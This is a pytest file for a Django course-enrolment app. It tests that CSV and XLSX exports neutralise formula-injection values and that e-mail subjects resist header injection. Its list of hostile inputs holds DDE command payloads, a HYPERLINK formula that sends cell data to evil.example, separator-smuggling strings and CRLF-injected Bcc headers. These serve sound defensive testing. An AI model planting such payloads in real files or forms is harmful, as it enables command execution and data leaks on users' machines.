"""Spreadsheet files and e-mails with hostile values (issue #11).

OWASP "CSV Injection": no cell of a CSV or XLSX file we write may start with a formula character, in
the file as we wrote it or as a spreadsheet that splits it on another separator (``;`` in most European
locales), a tab, a line break or a quote reads it. E-mail subjects stay one line.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core import mail
from django.urls import reverse

from microcred.core.spreadsheets import append_xlsx_row, csv_bytes, safe_cell, unquote_cell
from microcred.learning import imports, notifications, services
from microcred.learning.models import Enrolment
from microcred.learning.tests.factories import make_micro_credential, make_offering, start_offering

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "Ana;=cmd|' /C calc'!A0",
    "Ana,=cmd|' /C calc'!A0",
    "Ana\t=1+1",
    'Ana",=1+1',
    'Ana";-1+1',
    "Ana\r\n=1+1",
    "Ana\n@SUM(1)",
    "Ana; \t =1+1",
    "<script>alert(1)</script>",
    "Ana ]]> García",
    "Ana \u202eexe.fdp",
    "Ana " + "x" * 5000,
]


def cells_as_a_spreadsheet_may_split_them(body: bytes):
    """Every cell a spreadsheet could see: the file split on each usual separator and on line breaks,
    with the quotes it would strip."""
    text = body.decode("utf-8-sig")
    for separator in (",", ";", "\t", "|"):
        for line in text.replace("\r", "\n").split("\n"):
            for cell in line.split(separator):
                yield cell.lstrip(' "')


def assert_no_formula_cell(body: bytes):
    for cell in cells_as_a_spreadsheet_may_split_them(body):
        assert not cell.startswith(TRIGGERS), cell
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not cell.lstrip().startswith(TRIGGERS) and not cell.startswith(("\t", "\r", "\n")), cell


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_never_starts_a_formula(value):
    body = csv_bytes(["name"], [[value]])
    assert_no_formula_cell(body)
    (read,) = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))[1]
    assert read == safe_cell(value)


@pytest.mark.parametrize("value", ["=cmd|' /C calc'!A0", "-ana@example.org", "+1", "@x", "\tx", " =1", "\rx"])
def test_a_leading_formula_character_only_gets_a_quote_that_reading_back_drops(value):
    assert safe_cell(value) == "'" + value
    assert unquote_cell(safe_cell(value)) == value


def test_plain_values_are_left_alone():
    for value in ("Katrin Weber", "8.5", "2026-07-01", "Jean-Luc", "a@example.org", "García; Weber"):
        assert safe_cell(value) == value


def test_the_enrolment_export_neutralises_every_hostile_name(client, cast, offering, make_user):
    for n, value in enumerate(HOSTILE):
        learner = make_user(email=f"hostile{n}@example.org", full_name=value[:200])  # the field's length
        Enrolment.objects.create(offering=offering, learner=learner, status="enrolled")
    client.force_login(cast["proposer"])
    response = client.get(reverse("learning:enrolments-csv", args=[offering.pk]))
    assert response["Content-Disposition"] == f'attachment; filename="offering-{offering.pk}-enrolments.csv"'
    assert_no_formula_cell(response.content)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert sorted(row[1] for row in rows[1:]) == sorted(safe_cell(v[:200]) for v in HOSTILE)


@pytest.fixture
def hostile_class(offering, make_user):
    emails = ["-ana@example.org", "+tag@example.org", "=1+1@example.org", "plain@example.org"]
    learners = [make_user(email=email) for email in emails]
    for learner in learners:
        Enrolment.objects.create(offering=offering, learner=learner, status="enrolled")
    start_offering(offering)
    return emails


def test_the_xlsx_template_has_text_cells_never_formulas(offering, hostile_class):
    from openpyxl import load_workbook

    body = imports.template_xlsx(offering)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(body)).active
    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    assert sorted(cells) == sorted(hostile_class)
    for email, cell in cells.items():
        assert cell.data_type == "s"
        assert cell.quotePrefix == email.startswith(TRIGGERS)


def test_xlsx_rows_drop_characters_xml_forbids_and_keep_numbers():
    from openpyxl import Workbook

    sheet = Workbook().active
    append_xlsx_row(sheet, ["=1+1", "Ana\x00\x1b", 8, None])
    a, b, c, d = sheet[1]
    assert (a.value, a.data_type, a.quotePrefix) == ("=1+1", "s", True)
    assert (b.value, c.value, c.data_type, d.value) == ("Ana", 8, "n", None)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_template_round_trips_for_addresses_that_start_like_formulas(cast, offering, hostile_class, file_format):
    body = imports.template_csv(offering) if file_format == "csv" else imports.template_xlsx(offering)
    if file_format == "csv":
        assert_no_formula_cell(body)
    _format, table = imports.read_table(body)
    enrolled = {e.learner.email: (e.pk, e.learner_id) for e in offering.enrolments.select_related("learner")}
    filled = [
        (n, {**cells, "result": "pass", "grade": "8", "assessed_on": dt.date.today(), "participated": "yes"})
        for n, cells in table
    ]
    clean, errors, _skipped = imports.validate_rows(offering, filled, enrolled)
    assert errors == []
    assert sorted(row["email"] for row in clean) == sorted(hostile_class)


@pytest.mark.parametrize("title", ["Data\r\nBcc: victim@example.org", "Data\u2028X-Injected: 1"])
def test_enrolment_emails_have_a_one_line_subject(cast, institution, title, django_capture_on_commit_callbacks):
    micro_credential = make_micro_credential(institution=institution, proposer=cast["proposer"], title=title)
    offering = make_offering(micro_credential=micro_credential, creator=cast["proposer"], institution=institution)
    with django_capture_on_commit_callbacks(execute=True):
        services.enrol(user=cast["learner"], offering_id=offering.pk)
    (message,) = mail.outbox
    rendered = message.message()
    assert rendered["Bcc"] is None and rendered["X-Injected"] is None
    assert "\n" not in message.subject and "\r" not in message.subject and "\u2028" not in message.subject
    assert message.subject.endswith("Data Bcc: victim@example.org") or message.subject.endswith("Data X-Injected: 1")
    notifications.promoted(Enrolment.objects.get(offering=offering).pk)  # every template goes the same way
    assert "\n" not in mail.outbox[-1].subject
